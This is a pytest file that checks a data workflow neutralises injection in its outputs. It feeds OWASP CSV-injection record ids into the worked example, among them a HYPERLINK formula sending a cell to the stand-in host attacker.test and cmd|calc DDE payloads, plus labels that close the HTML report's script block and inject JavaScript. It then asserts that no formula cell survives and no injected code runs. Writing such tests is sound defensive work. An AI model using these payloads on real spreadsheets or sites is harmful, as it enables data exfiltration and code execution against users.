"""Hostile text reaching outputs (issue 14, defects 7 and 8): one workflow run, every written file.

The worked example of config/README.md is run with record ids that a spreadsheet would read
as formulas (OWASP's CSV-injection cases) and with event and source labels that close the
report's ``<script>`` block. Then:

* every CSV and TSV under ``results/`` and the private folder has no text cell starting with
  ``=``, ``+``, ``-``, ``@``, tab or carriage return (numbers such as ``-3.2`` stay numbers);
* ``results/estimates.xlsx`` has no formula cell;
* ``report.html``, opened in a real browser, runs none of the injected code, logs no error
  and shows the hostile label as text.

``python tests/hostile/test_output_cases.py`` prints the table of cases.
"""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT / "tests"), str(ROOT / "tests" / "workflow")]

from conftest import open_in_browser  # noqa: E402
from test_analyst import worked_example_config, write_worked_example_lists  # noqa: E402
from test_workflow import make_workdir, snakemake  # noqa: E402

pytestmark = pytest.mark.workflow

#: Record ids that spreadsheets run as formulas (OWASP, CSV injection).
HOSTILE_IDS = [
    '=HYPERLINK("http://attacker.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
#: A label that ends the report's <script> block and opens one of its own.
SCRIPT_LABEL = "Jan </script><script>window.__pwned = 1</script> & <b>bold</b> {{ 7*7 }}"
SOURCE_LABEL = "NGO </script><script>window.__pwned2 = 1</script> list"
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")

#: The table for the closing note of issue 14: case, expected, observed before the fix.
CASES = [
    (
        "14.7 record_id =HYPERLINK(...), +cmd|..., @SUM(...), -2+3+cmd, tab",
        "every CSV/TSV/XLSX cell written starts with ' (OWASP)",
        "written verbatim into persons.csv, linked pairs and the private records",
    ),
    (
        "14.8 event and source labels with </script><script>",
        "shown as text; no injected code runs; no console error",
        "labels inside the report's <script> block (job params): the block ends, the code runs",
    ),
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _formula_cells(path: Path) -> list[tuple[int, int]]:
    """(row, column) of every text cell that a spreadsheet would read as a formula."""
    sep = "\t" if path.suffix == ".tsv" else ","
    found = []
    with open(path, newline="", encoding="utf-8") as fh:
        for r, row in enumerate(csv.reader(fh, delimiter=sep)):
            for c, cell in enumerate(row):
                if cell.startswith(FORMULA_LEADS) and not _is_number(cell):
                    found.append((r, c))
    return found


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    workdir = make_workdir(tmp / "project")
    write_worked_example_lists(workdir / "lists")
    ngo = workdir / "lists" / "ngo_2022.csv"
    frame = pd.read_csv(ngo, dtype=str)
    for i, hostile in enumerate(HOSTILE_IDS):
        frame.iloc[i, 0] = hostile
    frame.to_csv(ngo, index=False)
    config = yaml.safe_load(worked_example_config())
    config["events"]["jan2022"]["label"] = SCRIPT_LABEL
    config["events"]["jan2022"]["sources"]["ngo"]["label"] = SOURCE_LABEL
    path = tmp / "analyst" / "hostile.yaml"
    path.parent.mkdir()
    path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    proc = snakemake(workdir, "--configfile", str(path))
    assert proc.returncode == 0, proc.stderr[-4000:]
    proc = snakemake(workdir, "--configfile", str(path), "--report", "results/report.html")
    assert proc.returncode == 0, proc.stderr[-4000:]
    return workdir


def test_no_written_table_holds_a_formula_cell(hostile_run):
    written = sorted(
        p
        for folder in ("results", "private")
        for p in (hostile_run / folder).rglob("*")
        if p.suffix in (".csv", ".tsv")
    )
    assert len(written) > 20
    persons = pd.read_csv(hostile_run / "results" / "jan2022" / "deaths" / "persons.csv", dtype=str)
    ids = set(persons["record_id"])
    assert {"'" + h for h in HOSTILE_IDS[:4]} <= ids  # the ids are there, neutralised
    bad = {str(p.relative_to(hostile_run)): _formula_cells(p) for p in written}
    assert not {name: cells for name, cells in bad.items() if cells}


def test_the_spreadsheet_has_no_formula_cell(hostile_run):
    from openpyxl import load_workbook

    book = load_workbook(hostile_run / "results" / "estimates.xlsx")
    assert book.sheetnames == ["deaths"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_LEADS)]


def test_a_script_closing_label_is_shown_as_text_and_runs_nothing(hostile_run, tmp_path):
    report = hostile_run / "results" / "report.html"
    html = report.read_text("utf-8")
    assert "<script>window.__pwned" not in html
    pw, context, page, errors = open_in_browser(report, tmp_path / "profile")
    try:
        page.wait_for_timeout(1500)
        assert page.evaluate("typeof window.__pwned") == "undefined"
        assert page.evaluate("typeof window.__pwned2") == "undefined"
        text = page.inner_text("body")
        assert "</script><script>window.__pwned = 1</script> & <b>bold</b> {{ 7*7 }}" in text
        assert not errors, errors
    finally:
        context.close()
        pw.stop()


if __name__ == "__main__":
    print("| case | expected | observed before | observed after |\n|---|---|---|---|")
    for case, expected, before in CASES:
        print(f"| {case} | {expected} | {before} | see pytest {Path(__file__).name} |")
